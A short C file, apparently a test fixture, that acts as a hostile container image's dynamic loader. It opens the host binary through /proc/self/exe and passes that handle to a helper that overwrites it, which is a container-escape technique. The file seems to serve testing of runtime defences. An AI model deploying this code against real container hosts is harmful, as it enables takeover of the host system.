// What a hostile image has for its dynamic loader: the kernel starts it in the place of
// a program of the host that the image has executed by way of /proc/self/exe. It then
// holds that program open, and hands it to one that overwrites it.

#include <asm/unistd.h>
#include <stddef.h>

#define AT_FDCWD -100
#define O_PATH 010000000

#if defined(__x86_64__)
static long call(long nr, long a, long b, long c, long d)
{
	long r;
	register long r10 __asm__("r10") = d;
	__asm__ volatile("syscall" : "=a"(r) : "a"(nr), "D"(a), "S"(b), "d"(c), "r"(r10) : "rcx", "r11", "memory");
	return r;
}
#else
static long call(long nr, long a, long b, long c, long d)
{
	register long x8 __asm__("x8") = nr;
	register long x0 __asm__("x0") = a;
	register long x1 __asm__("x1") = b, x2 __asm__("x2") = c, x3 __asm__("x3") = d;
	__asm__ volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2), "r"(x3) : "memory");
	return x0;
}
#endif

#if defined(__x86_64__)
__attribute__((force_align_arg_pointer))
#endif
void _start(void)
{
	long fd = call(__NR_openat, AT_FDCWD, (long)"/proc/self/exe", O_PATH, 0);
	char path[] = "/proc/self/fd/00";
	const char said[] = "loaded\n";
	char *volatile argv[4], *volatile env[1];
	path[14] = '0' + fd / 10;
	path[15] = '0' + fd % 10;
	if (fd >= 0 && fd < 10) {
		path[14] = '0' + fd;
		path[15] = 0;
	}
	argv[0] = "threat";
	argv[1] = "overwrite";
	argv[2] = path;
	argv[3] = NULL;
	env[0] = NULL;
	call(__NR_write, 1, (long)said, sizeof said - 1, 0);
	call(__NR_execve, (long)"/bin/threat", (long)argv, (long)env, 0);
	call(__NR_exit, 1, 0, 0, 0);
}
